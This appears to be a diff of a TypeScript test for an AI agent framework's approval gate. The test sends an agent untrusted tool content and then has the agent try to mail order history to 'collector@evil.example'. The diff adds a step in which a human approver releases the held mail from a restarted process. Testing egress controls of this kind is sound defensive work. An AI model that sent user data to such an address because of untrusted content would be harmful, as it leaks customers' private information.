@@ -10,8 +10,10 @@ import { openPostgresBackend } from '../store/postgres/open-postgres-backend.js'
 import { setUpPostgresCluster } from '../store/postgres/test-support/postgres-cluster.js';
 import type { SessionStore } from '../store/session-store.js';
 import { openSqliteBackend } from '../store/sqlite/open-sqlite-backend.js';
+import type { SqliteApprovalBroker } from '../store/sqlite/sqlite-approval-broker.js';
 import { defineTool } from '../tools/define-tool.js';
 import { ToolRegistry } from '../tools/tool-registry.js';
+import { resumeAfterApproval } from './resume-after-approval.js';
 import { runSession } from './run-session.js';
 import { calls, sequenceModel } from './test-support/sequence-model.js';
 
@@ -24,6 +26,8 @@ const leak = { to: 'collector@evil.example', subject: 'Order history', body: 'SO
 interface Backend {
   readonly sessions: SessionStore;
   readonly approvals: ApprovalBroker;
+  /** The broker `resumeAfterApproval` decides with (SQLite's). */
+  readonly sqliteApprovals?: SqliteApprovalBroker;
   close(): Promise<void>;
 }
 
@@ -39,7 +43,12 @@ const backends: { name: string; skip: boolean; database: () => () => Promise<Bac
       const path = join(directory, `arbiter-${Math.random().toString(36).slice(2)}.db`);
       return async () => {
         const backend = openSqliteBackend({ path });
-        return { sessions: backend.sessions, approvals: backend.approvals, close: async () => backend.close() };
+        return {
+          sessions: backend.sessions,
+          approvals: backend.approvals,
+          sqliteApprovals: backend.approvals,
+          close: async () => backend.close(),
+        };
       };
     },
   },
@@ -137,8 +146,31 @@ describe.each(backends)('egress after untrusted content, sessions on $name', ({ 
       expect(stored?.messages.filter((message) => message.role === 'tool' && message.untrusted !== undefined)).toEqual([
         expect.objectContaining({ untrusted: 'the order messages' }),
       ]);
-    } finally {
+      if (required?.type !== 'approval:required') throw new Error('no approval was asked for');
       await backend.close();
+      // A person reads the card and lets it go, from another process: the mail is sent, once.
+      const restarted = await open();
+      try {
+        if (restarted.sqliteApprovals === undefined) return;
+        const outcome = await resumeAfterApproval({
+          sessions: restarted.sessions,
+          broker: restarted.sqliteApprovals,
+          approvalId: required.approvalId,
+          decision: 'approve',
+          approver: 'staff-li',
+          model: sequenceModel([{ role: 'assistant', content: 'Sent.' }]),
+          tools,
+          principal,
+          gate: createTierGate({ tools }),
+        });
+        expect(outcome.status === 'resumed' ? outcome.result.stopReason : outcome.status).toBe('completed');
+        expect(sent).toEqual([leak]);
+      } finally {
+        await restarted.close();
+      }
+    } catch (error) {
+      await backend.close().catch(() => {});
+      throw error;
     }
   });
 
